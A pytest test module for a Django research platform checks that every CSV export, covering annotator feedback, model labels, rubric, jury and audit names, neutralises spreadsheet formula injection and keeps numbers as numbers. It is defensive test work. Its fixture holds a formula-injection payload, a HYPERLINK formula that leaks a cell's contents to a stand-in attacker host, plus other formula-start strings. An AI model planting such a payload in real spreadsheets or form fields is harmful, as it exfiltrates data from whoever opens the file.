"""Every CSV the site writes neutralises text a spreadsheet would run as a formula - annotator
feedback, model labels, rubric, jury and attribute names - and keeps numbers as numbers: each
export, fed text that starts with =, +, - and @ (the writers themselves are pinned to
common/csv_export.py by tests/engine/test_csv_export.py)."""

import csv
import io
import re

import pandas as pd
import pytest
from django.contrib.admin.sites import site
from django.core.cache import cache
from django.test import RequestFactory
from django.urls import reverse

from alignment.services.archive.report import AGREEMENT_CSV, DISAGREEMENTS_CSV, report_tables
from annotation.models import Assignment
from annotation.services.exchange import annotations_import, export_text
from audit.models import AuditEvent
from audit.services import audit_record
from benchmark.models import BenchmarkEntry
from common.csv_export import FORMULA_STARTS
from jury.models import Jury, RubricVersion
from jury.services.reports import EXPORT_TABLES
from rubric_lab.services.exports import table_export
from tests.alignment.conftest import near_jury
from tests.annotation.conftest import annotators, clinicians, new_study  # noqa: F401
from tests.annotation.staff_support import annotate, full_scores
from tests.jury.services.builders import scored_job, world, world_job  # noqa: F401

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"details")'
FORMULAS = (HYPERLINK, "+1", "-2+3", "@SUM(A1)")
NUMBER = re.compile(r"-?\d+(\.\d+)?(e-?\d+)?")


def neutralised(text: str) -> list[dict]:
    """The CSV's rows, after checking that no cell (header included) starts like a formula
    unless it is a number written as a number."""
    rows = list(csv.reader(io.StringIO(text)))
    formula_like = [
        cell
        for row in rows
        for cell in row
        if cell.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(cell)
    ]
    assert len(rows) > 1 and formula_like == []
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


@pytest.fixture(autouse=True)
def empty_cache():
    cache.clear()


@pytest.fixture
def poisoned_labels(scored_job):  # noqa: F811 - the imported fixture
    """The run's two agents labelled with formulas (labels are free text on a run)."""
    agents = list(scored_job.run.agents.order_by("pk"))
    for agent, label in zip(agents, (HYPERLINK, "-2+3"), strict=True):
        agent.label = label
        agent.save(update_fields=["label"])
    return scored_job


@pytest.fixture
def lenient_clinicians_study(poisoned_labels):
    """A study whose clinicians score one point above the rounded jury mean, so every jury -
    clinician difference is negative; the clinical safety rubric named by a formula."""
    study = new_study(poisoned_labels, size=8)
    people = [*annotators("clinical", 2), *annotators("operational", 2)]
    for item in study.items.order_by("position"):
        for person in people:
            annotate(item, person, scores=near_jury(poisoned_labels, item, person.track, 1))
    RubricVersion.objects.filter(rubric_id="clinical_safety").update(name="@SUM(A1)")
    return study


def test_the_annotation_export_neutralises_feedback_and_keeps_scores_as_numbers(
    researcher_client,
    scored_job,  # noqa: F811 - the imported fixtures
    clinicians,  # noqa: F811
):
    study = new_study(scored_job)
    rubrics = list(full_scores(study, "clinical"))
    annotate(study.items.first(), clinicians[0],
             feedback=dict(zip(rubrics, FORMULAS, strict=False)))  # fmt: skip
    url = reverse("annotation:staff_study_export", args=[study.pk, "csv"])
    rows = neutralised(researcher_client.get(url).content.decode())
    assert {row["feedback"] for row in rows} == {"'" + formula for formula in FORMULAS} | {""}
    assert {row["score"] for row in rows} == {"3"}


def test_an_exported_file_read_back_gives_the_feedback_as_it_was_written(
    scored_job,  # noqa: F811 - the imported fixtures
    clinicians,  # noqa: F811
    researcher,
):
    source = new_study(scored_job)
    rubrics = list(full_scores(source, "clinical"))
    feedback = dict(zip(rubrics, FORMULAS, strict=False))
    annotate(source.items.first(), clinicians[0], feedback=feedback)
    copy = new_study(scored_job, name="Copy", project="Elsewhere")
    data = export_text(source, "csv").encode()
    annotations_import(  # the work is the clinician's own: confirmed, not attributed silently
        copy, data=data, filename="export.csv", actor=researcher,
        confirmed_accounts=[clinicians[0].username],
    )  # fmt: skip
    assert Assignment.objects.get(item__study=copy).feedback == feedback


def test_every_jury_report_table_neutralises_model_labels(researcher_client, poisoned_labels):
    texts = {}
    for table in EXPORT_TABLES:
        url = reverse("jury:report_export", args=[poisoned_labels.pk, table, "csv"])
        texts[table] = neutralised(researcher_client.get(url).content.decode())
    models = {row["Model"] for row in texts["models"]}
    assert models == {f"'{HYPERLINK} (scripted, not a model)", "'-2+3 (scripted, not a model)"}
    assert all(float(row["mean"]) >= 1 for row in texts["sensitivity"])  # numbers as numbers


def test_the_agreement_table_neutralises_rubric_names_and_signed_figures(
    researcher_client, lenient_clinicians_study
):
    url = reverse("alignment:export", args=[lenient_clinicians_study.pk, "csv"])
    rows = neutralised(researcher_client.get(url).content.decode())
    safety = next(row for row in rows if row["Rubric"] == "'@SUM(A1)")
    assert safety["Mean signed diff (jury - clinician)"].startswith("'-")  # text: "-0.50 [...]"


def test_the_archived_tables_neutralise_labels_and_keep_negative_differences_as_numbers(
    lenient_clinicians_study,
):
    items = lenient_clinicians_study.items.values_list("conversation_id", flat=True)
    tables = report_tables(
        lenient_clinicians_study, conversation_ids={c: n for n, c in enumerate(items)}, people={}
    )
    neutralised(tables[AGREEMENT_CSV])
    rows = neutralised(tables[DISAGREEMENTS_CSV])
    assert {row["model"] for row in rows} == {"'" + HYPERLINK, "'-2+3"}
    differences = [row["diff"] for row in rows if row["diff"]]  # blank: no complete jury
    assert all(NUMBER.fullmatch(d) and float(d) <= 0 for d in differences), set(differences)
    assert min(float(d) for d in differences) < 0


def test_the_jury_comparison_csv_neutralises_jury_names_and_keeps_numbers(
    researcher_client, lenient_clinicians_study
):
    Jury.objects.filter(pk=lenient_clinicians_study.scoring_jobs.get().jury_id).update(name="+1")
    url = reverse("alignment:loop_comparison_csv", args=[lenient_clinicians_study.pk])
    rows = neutralised(researcher_client.get(url).content.decode())
    assert {row["jury"] for row in rows} == {"'+1"}
    differences = [float(row["mean_signed_diff"]) for row in rows]
    assert all(d <= 0 for d in differences) and min(differences) < 0


def test_the_distribution_report_neutralises_attribute_values(researcher_client, scored_job):  # noqa: F811
    benchmark_set = scored_job.run.benchmark_set
    entry = BenchmarkEntry.objects.filter(benchmark_set=benchmark_set).first()
    entry.seed = {**entry.seed, "condition": HYPERLINK}
    entry.save(update_fields=["seed"])
    url = reverse("benchmark:set_report", args=[benchmark_set.pk]) + "?format=csv"
    rows = neutralised(researcher_client.get(url).content.decode())
    assert {"attribute": "condition", "value": "'" + HYPERLINK} in [
        {"attribute": row["attribute"], "value": row["value"]} for row in rows
    ]
    assert any(row["difference"].startswith("-0.") for row in rows)  # a number, unquoted


def test_the_rubric_lab_tables_neutralise_text_and_keep_numbers():
    table = pd.DataFrame({"label": list(FORMULAS), "mean_delta": [-0.5, -0.25, 0.0, None]})
    rows = neutralised(table_export(table, "csv", caption="Sensitivity", label="sensitivity"))
    assert [row["label"] for row in rows] == ["'" + formula for formula in FORMULAS]
    assert [row["mean_delta"] for row in rows] == ["-0.5", "-0.25", "0.0", ""]


def test_the_audit_trail_csv_neutralises_names_and_notes(admin_user, scored_job):  # noqa: F811
    audit_record(actor=admin_user, action="run.paused", target=scored_job.run, note="-2+3")
    request = RequestFactory().get("/admin/")
    request.user = admin_user
    response = site._registry[AuditEvent].export_csv(request, AuditEvent.objects.all())
    rows = neutralised(response.content.decode())
    assert "'-2+3" in {row["note"] for row in rows}
